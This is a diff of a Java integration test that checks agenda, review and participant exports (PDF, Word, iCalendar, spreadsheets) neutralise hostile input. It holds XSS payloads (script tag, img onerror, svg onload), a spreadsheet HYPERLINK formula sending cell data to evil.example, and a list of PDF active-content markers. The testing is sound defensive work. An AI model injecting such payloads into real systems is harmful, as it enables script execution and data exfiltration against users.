@@ -47,15 +47,32 @@ class HostileTextIT extends IntegrationTest {
     static final String IMAGE = "<img src=x onerror=\"window.__xss=2\">";
     static final String PAYLOAD = "Teacher census " + SCRIPT + " and " + IMAGE + " \"><svg onload=alert(3)>";
 
-    @Autowired AgendaService agenda;
-    @Autowired AgendaPrintService print;
-    @Autowired CalendarService calendars;
-    @Autowired ReviewService reviews;
-    @Autowired AideMemoireService aideMemoires;
-    @Autowired AideMemoireExports exports;
-    @Autowired DelegationService delegations;
-    @Autowired ImprovementPlanService plans;
-    @Autowired ParticipantService participants;
+    @Autowired
+    AgendaService agenda;
+
+    @Autowired
+    AgendaPrintService print;
+
+    @Autowired
+    CalendarService calendars;
+
+    @Autowired
+    ReviewService reviews;
+
+    @Autowired
+    AideMemoireService aideMemoires;
+
+    @Autowired
+    AideMemoireExports exports;
+
+    @Autowired
+    DelegationService delegations;
+
+    @Autowired
+    ImprovementPlanService plans;
+
+    @Autowired
+    ParticipantService participants;
 
     @Test
     void a_session_title_with_markup_is_plain_text_in_the_agenda_pdf_and_the_icalendar_feed() throws Exception {
@@ -72,14 +89,17 @@ class HostileTextIT extends IntegrationTest {
         String ics = calendars.publicFeed(review).orElseThrow();
         Calendar calendar = new CalendarBuilder().build(new StringReader(ics));
         VEvent event = calendar.<VEvent>getComponents("VEVENT").stream()
-                .filter(e -> e.getSummary().getValue().startsWith("Opening <script>")).findFirst().orElseThrow();
+                .filter(e -> e.getSummary().getValue().startsWith("Opening <script>"))
+                .findFirst()
+                .orElseThrow();
         assertThat(event.getSummary().getValue()).isEqualTo("Opening " + SCRIPT + " " + IMAGE);
         // Plain-text properties only: no HTML alternative description a mail client would render.
         assertThat(ics).doesNotContain("X-ALT-DESC").doesNotContain("text/html");
     }
 
     @Test
-    void markup_in_an_aide_memoire_section_and_its_key_messages_is_removed_or_inert_in_pdf_word_and_the_pack() throws Exception {
+    void markup_in_an_aide_memoire_section_and_its_key_messages_is_removed_or_inert_in_pdf_word_and_the_pack()
+            throws Exception {
         long review = fullSampleReviewAsOrganizer();
         long id = aideMemoires.find(review).orElseThrow().getId();
         aideMemoires.edit(id, SectionKey.INTRODUCTION, PAYLOAD + "\n\nSecond paragraph with <b>bold</b> kept.");
@@ -90,12 +110,16 @@ class HostileTextIT extends IntegrationTest {
         byte[] pdf = exports.pdf(version, "en");
         assertInert(pdf);
         // The server's HTML cleaning drops the script and the image; the words stay.
-        assertThat(text(pdf)).contains("Teacher census").doesNotContain("window.__xss").doesNotContain("onerror");
+        assertThat(text(pdf))
+                .contains("Teacher census")
+                .doesNotContain("window.__xss")
+                .doesNotContain("onerror");
 
         byte[] docx = exports.docx(version, "en");
         String body = entry(docx, "word/document.xml");
         assertThat(body).doesNotContain("<script").doesNotContain("onerror").doesNotContain("altChunk");
-        assertThat(entryNames(docx)).noneMatch(name -> name.endsWith(".html") || name.endsWith(".htm") || name.contains("vbaProject"));
+        assertThat(entryNames(docx))
+                .noneMatch(name -> name.endsWith(".html") || name.endsWith(".htm") || name.contains("vbaProject"));
 
         byte[] pack = exports.pack(version, "en");
         assertInert(pack);
@@ -105,8 +129,11 @@ class HostileTextIT extends IntegrationTest {
     @Test
     void an_improvement_plan_action_with_markup_is_plain_text_in_its_pdf() throws Exception {
         long review = fullSampleReviewAsOrganizer();
-        long delegation = delegations.delegations(review).stream().filter(d -> d.getCountry().equals("Senegal"))
-                .findFirst().orElseThrow().getId();
+        long delegation = delegations.delegations(review).stream()
+                .filter(d -> d.getCountry().equals("Senegal"))
+                .findFirst()
+                .orElseThrow()
+                .getId();
         signInAs("observer", org.jesr.desk.security.Role.OBSERVER);
         ImprovementAction action = new ImprovementAction();
         action.setDelegationId(delegation);
@@ -117,14 +144,20 @@ class HostileTextIT extends IntegrationTest {
         byte[] pdf = plans.pdf(delegation);
         assertInert(pdf);
         // Table cells wrap, so look for the pieces: the markup is printed as the characters typed.
-        assertThat(text(pdf)).contains("Teacher census", "<script>window.__xss=1</script>", "onerror=\"window.__xss=2\">");
+        assertThat(text(pdf))
+                .contains("Teacher census", "<script>window.__xss=1</script>", "onerror=\"window.__xss=2\">");
     }
 
     @Test
     void exported_participant_lists_neutralise_spreadsheet_formulas() {
         long review = sampleReviewAsOrganizer();
-        Participant someone = participants.search(review, org.jesr.desk.participant.ParticipantFilter.all(),
-                org.springframework.data.domain.PageRequest.of(0, 1)).getContent().getFirst();
+        Participant someone = participants
+                .search(
+                        review,
+                        org.jesr.desk.participant.ParticipantFilter.all(),
+                        org.springframework.data.domain.PageRequest.of(0, 1))
+                .getContent()
+                .getFirst();
         someone.setName("=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")");
         participants.save(someone);
 
@@ -135,21 +168,30 @@ class HostileTextIT extends IntegrationTest {
 
     private AgendaSession session(long review, String titleStart) {
         return agenda.sessions(review, ZoneId.of("Asia/Karachi"), AgendaFilter.day(null)).stream()
-                .filter(s -> s.getTitle().startsWith(titleStart)).findFirst().orElseThrow();
+                .filter(s -> s.getTitle().startsWith(titleStart))
+                .findFirst()
+                .orElseThrow();
     }
 
     /** No active content: no JavaScript, no launch or URI actions, no embedded files. */
     private static void assertInert(byte[] pdf) {
         String raw = new String(pdf, StandardCharsets.ISO_8859_1);
-        assertThat(raw).doesNotContain("/JavaScript").doesNotContain("/JS ").doesNotContain("/JS(")
-                .doesNotContain("/Launch").doesNotContain("/EmbeddedFile").doesNotContain("/OpenAction");
+        assertThat(raw)
+                .doesNotContain("/JavaScript")
+                .doesNotContain("/JS ")
+                .doesNotContain("/JS(")
+                .doesNotContain("/Launch")
+                .doesNotContain("/EmbeddedFile")
+                .doesNotContain("/OpenAction");
     }
 
     private static String text(byte[] pdf) throws IOException {
         StringBuilder text = new StringBuilder();
         try (PdfDocument document = new PdfDocument(new PdfReader(new ByteArrayInputStream(pdf)))) {
             for (int page = 1; page <= document.getNumberOfPages(); page++) {
-                text.append(PdfTextExtractor.getTextFromPage(document.getPage(page), new LocationTextExtractionStrategy())).append('\n');
+                text.append(PdfTextExtractor.getTextFromPage(
+                                document.getPage(page), new LocationTextExtractionStrategy()))
+                        .append('\n');
             }
         }
         return text.toString();
